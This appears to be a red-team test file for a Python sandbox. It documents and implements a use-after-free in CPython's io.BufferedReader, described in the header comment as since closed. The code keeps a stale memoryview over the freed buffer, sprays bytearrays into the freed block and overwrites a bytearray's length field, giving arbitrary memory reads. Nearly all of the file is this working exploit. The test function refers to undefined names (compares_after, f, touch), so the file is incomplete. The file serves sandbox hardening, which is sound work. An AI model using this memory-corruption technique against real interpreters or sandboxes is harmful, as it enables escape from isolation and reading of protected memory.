# Red team round 20 (on reach, CPython gh-60198): io.BufferedReader hands its raw stream's readinto a memoryview made by
# PyMemoryView_FromBuffer over its own PyMem buffer (no owner object, no export count). A raw readinto
# that keeps the view keeps a writable window on the buffer after the reader is freed. With buffer_size
# 56 the freed block is in the small-object class of a bytearray object (56 bytes); a sprayed empty
# bytearray lands there, the view writes its ob_size (offset 16) to 2**62, and as an empty bytearray's
# data pointer is NULL, `mem[x]` reads address x. ob_size is set back to 0 afterwards (no crash at exit).
# Closed: every raw stream of a buffered reader, writer or random file is seen through _r2e_kernel.CopyingStream
# (readinto into a bytearray of its own, copied; write of a copy), each stream object is initialised once.
import io

KEPT = []


class Raw(io.RawIOBase):
    def readable(self):
        return True

    def readinto(self, view):
        KEPT.append(view)
        return 0


def stale_view():
    r = io.BufferedReader(Raw(), buffer_size=56)
    r.read(1)
    del r
    return KEPT.pop()


def reader():
    ba = id(bytearray).to_bytes(8, "little")
    for _ in range(100):
        mv = stale_view()
        keep = []
        for _ in range(2000):
            b = bytearray()
            keep.append(b)
            if bytes(mv[8:16]) == ba and int.from_bytes(mv[0:8], "little") < 10:
                mv[16:24] = (5).to_bytes(8, "little")
                if len(b) == 5:
                    mv[16:24] = (1 << 62).to_bytes(8, "little")
                    return b, mv
                mv[16:24] = bytes(8)
    raise RuntimeError("no reader")


def test_structure():
    mem, mv = reader()
    seen = compares_after(f, 100, mem)
    mv[16:24] = bytes(8)  # the length back to 0: nothing crashes at exit
    touch()
    assert seen == [4], seen
